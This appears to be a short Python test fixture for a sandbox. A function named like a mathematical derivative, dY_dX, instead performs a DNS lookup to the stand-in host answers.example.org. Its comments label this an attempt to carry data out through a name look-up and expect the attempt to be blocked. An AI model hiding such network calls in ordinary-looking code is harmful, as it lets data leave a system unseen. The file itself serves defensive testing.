# attack: a name look-up carries data out
# expect: raised
import socket


def dY_dX(X):
    return socket.getaddrinfo("answers.example.org", 80)
